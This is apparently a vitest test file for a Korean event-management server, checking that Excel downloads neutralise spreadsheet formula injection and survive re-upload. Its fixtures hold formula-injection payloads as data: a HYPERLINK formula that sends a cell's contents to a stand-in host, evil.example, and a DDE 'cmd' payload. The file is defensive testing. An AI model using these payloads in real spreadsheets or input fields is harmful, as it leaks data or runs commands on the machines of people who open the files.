import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inflateEntry, readZipDirectory } from '../../server/src/excel/zip-reader.js';
import { attendee } from '../support/attendee-fixtures.js';
import { booth, download, lecture } from '../support/booth-fixtures.js';
import { startTestServer, type TestServer } from '../support/test-server.js';
import { uploadForm } from '../support/workbooks.js';

/**
 * Spreadsheet formula injection: text that starts with = + - @ is stored as it was typed, and every .xlsx the
 * server writes holds it as plain text with an apostrophe in front (never a formula), which the upload takes
 * away again: a downloaded attendee list uploads back to the very same values.
 */

let server: TestServer;
let token: string;
let eventId: number;
let boothId: number;
let boothToken: string;
let lectureId: number;

/** What people typed, as stored: every field that reaches a download starts with a formula character. */
const FIRST = attendee({
  name: '=HYPERLINK("http://evil.example/?d="&A1,"클릭")',
  affiliation: "+1+cmd|' /C calc'!A0",
  phoneNumber: '-2+3-123-4567', // a phone number needs 9 digits (issue 47)
  email: '=cmd@evil.example',
  country: '@SUM(1+1)',
});
const SECOND = attendee({
  name: '-홍길동',
  affiliation: '@한빛전자',
  phoneNumber: '+1 212-555-0100', // a foreign number stays as typed (a Korean mobile is stored as 010-…)
  country: "'=이미 따옴표", // starts with an apostrophe already: one more is written, one taken away
});
const BOOTH_NAME = '=HYPERLINK("http://evil.example","부스")';
const LECTURE_TITLE = '+SUM(1,2) 강연';
const FORMULA_START = /^[=+\-@\t\r]/;

beforeAll(async () => {
  server = await startTestServer();
  ({ token, eventId } = await server.session());
  for (const person of [FIRST, SECOND]) {
    const res = await server.api('/api/users/register', { method: 'POST', token, body: person });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
  }
  const created = await server.api(`/api/booths?eventId=${eventId}`, {
    method: 'POST',
    token,
    body: booth({ boothName: BOOTH_NAME, name: '=담당자', affiliation: '+소속', loginId: 'formula-booth' }),
  });
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  boothId = created.body.id;
  boothToken = (
    await server.api('/api/booth-login', {
      method: 'POST',
      body: { loginId: 'formula-booth', password: booth().password },
    })
  ).body.token;
  lectureId = (
    await server.api(`/api/lectures?eventId=${eventId}`, {
      method: 'POST',
      token,
      body: lecture({ title: LECTURE_TITLE, instructor: '@강사', location: '-1층' }),
    })
  ).body.id;
  const people = (await server.api('/api/users?size=10', { token })).body.content as { id: number }[];
  for (const { id } of people) {
    const visit = await server.api('/api/booth-visits', {
      method: 'POST',
      token: boothToken,
      body: { boothId, userId: id },
    });
    expect(visit.status, JSON.stringify(visit.body)).toBe(201);
    const checkIn = await server.api('/api/lecture-visits/checkin', {
      method: 'POST',
      body: { lectureId, userId: id },
    });
    expect(checkIn.status, JSON.stringify(checkIn.body)).toBe(201);
  }
});
afterAll(() => server?.close());

interface Cell {
  where: string;
  value: unknown;
  formula: boolean;
}

/** Every cell of every sheet, as exceljs reads it. */
async function cellsOf(file: Buffer): Promise<Cell[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(file as never);
  const cells: Cell[] = [];
  for (const sheet of wb.worksheets)
    sheet.eachRow((row) =>
      row.eachCell((cell) =>
        cells.push({
          where: `${sheet.name}!${cell.address}`,
          value: cell.value,
          formula: cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined,
        }),
      ),
    );
  return cells;
}

/** The XML of every worksheet of the file, as written. */
async function sheetXml(file: Buffer): Promise<string> {
  let xml = '';
  for (const entry of readZipDirectory(file).values()) {
    if (!entry.name.startsWith('xl/worksheets/')) continue;
    for await (const chunk of inflateEntry(file, entry, 2 ** 28)) xml += chunk.toString();
  }
  return xml;
}

/** The file of a download, after checking it is one. */
async function fetchXlsx(path: string, auth = token): Promise<Buffer> {
  const { res, buffer } = await download(server, path, auth);
  expect(res.status, `${path}: ${buffer.toString().slice(0, 200)}`).toBe(200);
  expect(buffer.subarray(0, 2).toString()).toBe('PK');
  return buffer;
}

/** No formula anywhere, no text a spreadsheet would take for one, and each payload as guarded text. */
async function expectNeutralised(file: Buffer, payloads: readonly string[]) {
  const cells = await cellsOf(file);
  expect(cells.length).toBeGreaterThan(0);
  expect(cells.filter((cell) => cell.formula)).toEqual([]);
  expect(await sheetXml(file)).not.toMatch(/<(?:\w+:)?f[\s>/]/);
  const texts = cells.map((cell) => cell.value).filter((value): value is string => typeof value === 'string');
  expect(texts.filter((text) => FORMULA_START.test(text))).toEqual([]);
  for (const payload of payloads) expect(texts).toContain(`'${payload}`);
}

const attendeeTexts = (person: ReturnType<typeof attendee>) => [
  person.name,
  person.affiliation,
  person.phoneNumber,
];

describe('formula injection: every download holds formula-like text as guarded text, never a formula', () => {
  it('the attendee list (/api/users/download-excel)', async () => {
    const file = await fetchXlsx(`/api/users/download-excel?eventId=${eventId}`);
    await expectNeutralised(file, [
      ...attendeeTexts(FIRST),
      FIRST.email,
      FIRST.country,
      ...attendeeTexts(SECOND),
      SECOND.country, // written as ''=이미 따옴표
    ]);
  });

  it('the booth visitors, for the admin (/api/booth-visits/{id}/download)', async () => {
    const file = await fetchXlsx(`/api/booth-visits/${boothId}/download?eventId=${eventId}`);
    await expectNeutralised(file, [...attendeeTexts(FIRST), ...attendeeTexts(SECOND)]);
  });

  it('the booth visitors, for the booth manager (/api/booth-login/{id}/visits/download)', async () => {
    const file = await fetchXlsx(`/api/booth-login/${boothId}/visits/download`, boothToken);
    await expectNeutralised(file, [...attendeeTexts(FIRST), ...attendeeTexts(SECOND)]);
  });

  it('the lecture attendees (/api/lecture-visits/{id}/download)', async () => {
    const file = await fetchXlsx(`/api/lecture-visits/${lectureId}/download?eventId=${eventId}`);
    await expectNeutralised(file, [...attendeeTexts(FIRST), ...attendeeTexts(SECOND)]);
  });

  it('the statistics report (/api/stats/download): booth names and lecture titles', async () => {
    const file = await fetchXlsx(`/api/stats/download?eventId=${eventId}`);
    await expectNeutralised(file, [BOOTH_NAME, LECTURE_TITLE]);
  });

  it('the upload template (/api/users/excel-template)', async () => {
    await expectNeutralised(await fetchXlsx('/api/users/excel-template'), []);
  });
});

describe('formula injection: download → upload gives back what was typed', () => {
  it('re-imports the downloaded attendees with exactly their stored values', async () => {
    const file = await fetchXlsx(`/api/users/download-excel?eventId=${eventId}`);
    const before = (await server.api('/api/users?size=10', { token })).body.content as Record<
      string,
      unknown
    >[];
    for (const person of before) {
      const res = await server.api(`/api/users/${person.id as number}?eventId=${eventId}`, {
        method: 'DELETE',
        token,
      });
      expect(res.status).toBe(200);
    }

    const res = await fetch(`${server.url}/api/users/upload-excel`, {
      method: 'POST',
      body: uploadForm(file, 'download.xlsx'),
      headers: { authorization: `Bearer ${token}` },
    });
    const body = await res.json();
    expect(res.status, JSON.stringify(body)).toBe(201);
    expect(body).toMatchObject({ imported: 2, invalid: 0, skipped: 0 });

    const fields = ['name', 'affiliation', 'phoneNumber', 'email', 'country'] as const;
    const pick = (person: Record<string, unknown>) => fields.map((field) => person[field]);
    const after = (await server.api('/api/users?size=10', { token })).body.content as Record<
      string,
      unknown
    >[];
    expect(after.map(pick).sort()).toEqual([FIRST, SECOND].map(pick).sort());
  });
});
